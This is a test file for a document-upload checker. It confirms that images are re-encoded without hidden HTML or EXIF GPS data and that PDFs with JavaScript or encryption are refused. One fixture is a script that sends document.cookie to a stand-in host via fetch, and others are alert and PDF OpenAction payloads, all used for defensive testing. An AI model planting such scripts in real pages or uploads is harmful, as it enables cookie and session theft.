import { readEnglishMessage } from '@chalein/testing/validation-messages';
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import sharp from 'sharp';
import { driverMessages } from '@chalein/shared/lib/validation/driver-registration';
import { uploadedFileMessages } from '@chalein/shared/lib/validation/uploaded-files';
import { buildTinyPdf } from '@chalein/testing/files/resume-files';
import { buildPdf } from '@chalein/testing/files/pdf-files';
import { createTempDir } from '../test-support/temp-dir';
import { detectDocumentFileType, inspectDocumentFile, type DocumentInspection } from './document-file-type';
import {
  JPEG_APP1,
  JPEG_COM,
  buildExifWithGps,
  buildJpeg,
  buildPng,
  describePicture,
  insertJpegSegment,
  insertPngChunk,
} from '@chalein/testing/files/image-files';

describe('document file checks', () => {
  let folder: string;
  let counter = 0;

  beforeAll(() => {
    folder = createTempDir('chalein-documents-');
  });
  afterAll(() => fs.rmSync(folder, { recursive: true, force: true }));

  /** Writes the bytes as an uploaded file is stored, then inspects it as the upload does: signature, then file. */
  async function inspectStored(bytes: Buffer): Promise<DocumentInspection | null> {
    counter += 1;
    const filePath = path.join(folder, `upload-${counter}.part`);
    fs.writeFileSync(filePath, bytes);
    const type = detectDocumentFileType(bytes.subarray(0, 16));
    if (type === null) return null;
    return inspectDocumentFile(filePath, type);
  }

  /** The type the inspection accepts the bytes as, or null when it refuses them. */
  async function checkStored(bytes: Buffer): Promise<string | null> {
    const inspection = await inspectStored(bytes);
    return inspection?.ok ? detectDocumentFileType(bytes.subarray(0, 16)) : null;
  }

  /** The cleaned bytes the inspection keeps instead of `bytes`; fails the test when there are none. */
  async function cleanStored(bytes: Buffer): Promise<Buffer> {
    const inspection = await inspectStored(bytes);
    if (!inspection?.ok || !inspection.cleaned) throw new Error(`not cleaned: ${JSON.stringify(inspection)}`);
    return inspection.cleaned;
  }

  it('accepts a real JPEG, PNG and PDF', async () => {
    expect(await checkStored(buildJpeg())).toBe('jpeg');
    expect(await checkStored(buildPng())).toBe('png');
    expect(await checkStored(buildTinyPdf())).toBe('pdf');
  });

  it('refuses a truncated JPEG and a truncated PNG', async () => {
    const jpeg = buildJpeg();
    expect(await checkStored(jpeg.subarray(0, Math.floor(jpeg.length / 2)))).toBeNull();
    const png = buildPng();
    expect(await checkStored(png.subarray(0, png.length - 16))).toBeNull();
  });

  it('refuses files that only start with the right bytes', async () => {
    const jpegHead = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00]);
    expect(await checkStored(Buffer.concat([jpegHead, Buffer.alloc(4000, 7), Buffer.from([0xff, 0xd9])]))).toBeNull();
    const pngHead = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    expect(await checkStored(Buffer.concat([pngHead, Buffer.from('<html><script>alert(1)</script></html>')]))).toBeNull();
  });

  it('refuses a PDF without its trailer', async () => {
    const pdf = buildTinyPdf();
    expect(await checkStored(pdf.subarray(0, pdf.lastIndexOf(Buffer.from('%%EOF'))))).toBeNull();
    expect(await checkStored(Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n', 'latin1'))).toBeNull();
  });

  it('refuses a picture larger than the limits without decoding it, saying so', async () => {
    const png = buildPng(4, 4);
    // the IHDR chunk's width and height, CRC fixed: only the size is wrong, and nothing of 400 megapixels is decoded
    png.writeUInt32BE(20_000, 16);
    png.writeUInt32BE(20_000, 20);
    png.writeUInt32BE(zlib.crc32(png.subarray(12, 29)), 29);
    const started = Date.now();
    expect(await inspectStored(png)).toMatchObject({ ok: false, message: uploadedFileMessages.pictureTooLarge });
    expect(Date.now() - started).toBeLessThan(5000);
    expect(readEnglishMessage(uploadedFileMessages.pictureTooLarge)).toBe(
      'This picture is too large: please upload one of at most 50 megapixels and 12,000 pixels a side.',
    );
  });

  it('refuses a picture one pixel wider than the limit, and accepts one at the limit', async () => {
    const wide = await sharp({ create: { width: 12_001, height: 2, channels: 3, background: '#fff' } })
      .png()
      .toBuffer();
    expect(await inspectStored(wide)).toMatchObject({ ok: false, message: uploadedFileMessages.pictureTooLarge });
    const atLimit = await sharp({ create: { width: 12_000, height: 2, channels: 3, background: '#fff' } })
      .png()
      .toBuffer();
    expect(describePicture(await cleanStored(atLimit))).toEqual({ type: 'png', width: 12_000, height: 2 });
  });
});

describe('pictures are kept encoded anew, without what came with them', () => {
  let folder: string;
  beforeAll(() => {
    folder = createTempDir('chalein-cleaning-');
  });
  afterAll(() => fs.rmSync(folder, { recursive: true, force: true }));

  const html = Buffer.from('<html><body><script>fetch("https://example.com/?"+document.cookie)</script></body></html>');

  async function clean(bytes: Buffer): Promise<Buffer> {
    const filePath = path.join(folder, `${Math.random().toString(36).slice(2)}.part`);
    fs.writeFileSync(filePath, bytes);
    const inspection = await inspectDocumentFile(filePath, detectDocumentFileType(bytes)!);
    if (!inspection.ok || !inspection.cleaned) throw new Error(`not cleaned: ${JSON.stringify(inspection)}`);
    return inspection.cleaned;
  }

  /** The JPEG's segments before its image data, by marker (APPn, COM, DQT...). */
  function listJpegMarkers(jpeg: Buffer): number[] {
    const markers: number[] = [];
    let at = 2;
    while (at + 4 <= jpeg.length && jpeg[at] === 0xff && jpeg[at + 1] !== 0xda) {
      markers.push(jpeg[at + 1]!);
      at += 2 + jpeg.readUInt16BE(at + 2);
    }
    return markers;
  }

  it('drops an HTML page appended after the end of the JPEG image', async () => {
    const jpeg = buildJpeg(24, 16);
    const cleaned = await clean(Buffer.concat([jpeg, html]));
    expect(cleaned.includes(Buffer.from('<script'))).toBe(false);
    expect(cleaned.subarray(-2)).toEqual(Buffer.from([0xff, 0xd9]));
    expect(describePicture(cleaned)).toEqual({ type: 'jpeg', width: 24, height: 16 });
  });

  it('drops an HTML page hidden in a JPEG comment segment', async () => {
    const cleaned = await clean(insertJpegSegment(buildJpeg(24, 16), JPEG_COM, html));
    expect(cleaned.includes(Buffer.from('<script'))).toBe(false);
    expect(listJpegMarkers(cleaned)).not.toContain(JPEG_COM);
  });

  it('drops the EXIF block with the GPS position, and turns the photo upright from its orientation first', async () => {
    // a 32 x 16 photo whose EXIF says "rotate 90 degrees clockwise to view", taken in Bengaluru
    const photo = insertJpegSegment(buildJpeg(32, 16), JPEG_APP1, buildExifWithGps(6, [12, 58, 20], [77, 35, 40]));
    expect((await sharp(photo).metadata()).orientation).toBe(6);
    const cleaned = await clean(photo);
    expect(listJpegMarkers(cleaned)).not.toContain(JPEG_APP1);
    for (const trace of ['Exif', 'PhoneCo', 'GPS']) expect(cleaned.includes(Buffer.from(trace, 'latin1'))).toBe(false);
    const metadata = await sharp(cleaned).metadata();
    expect(metadata.exif).toBeUndefined();
    expect(metadata.orientation).toBeUndefined();
    // upright: the pixels themselves are turned, so it shows the same with its tag gone
    expect(describePicture(cleaned)).toEqual({ type: 'jpeg', width: 16, height: 32 });
  });

  it('drops the text chunks of a PNG and whatever follows its IEND', async () => {
    const png = insertPngChunk(buildPng(3, 2), 'tEXt', Buffer.from(`Comment\0${html.toString('latin1')}`, 'latin1'));
    const cleaned = await clean(Buffer.concat([png, html]));
    expect(cleaned.includes(Buffer.from('<script'))).toBe(false);
    expect(cleaned.includes(Buffer.from('tEXt'))).toBe(false);
    expect(describePicture(cleaned)).toEqual({ type: 'png', width: 3, height: 2 });
  });
});

describe('PDF documents', () => {
  let folder: string;
  beforeAll(() => {
    folder = createTempDir('chalein-document-pdfs-');
  });
  afterAll(() => fs.rmSync(folder, { recursive: true, force: true }));

  async function inspect(bytes: Buffer): Promise<DocumentInspection> {
    const filePath = path.join(folder, `${Math.random().toString(36).slice(2)}.part`);
    fs.writeFileSync(filePath, bytes);
    return inspectDocumentFile(filePath, 'pdf');
  }

  it('keeps a plain PDF as it was sent, and refuses the others with a message that says what to do', async () => {
    expect(await inspect(buildPdf())).toEqual({ ok: true });
    const script = await inspect(buildPdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }));
    expect(script).toMatchObject({ ok: false, message: uploadedFileMessages.documentPdfNotPlain });
    const encrypted = await inspect(buildPdf({ objects: ['<< /Filter /Standard /V 2 >>'], trailer: '/Encrypt 6 0 R' }));
    expect(encrypted).toMatchObject({ ok: false, message: uploadedFileMessages.documentPdfProtected });
    const cut = await inspect(buildPdf().subarray(0, 200));
    expect(cut).toMatchObject({ ok: false, message: driverMessages.documentType });
  });
});
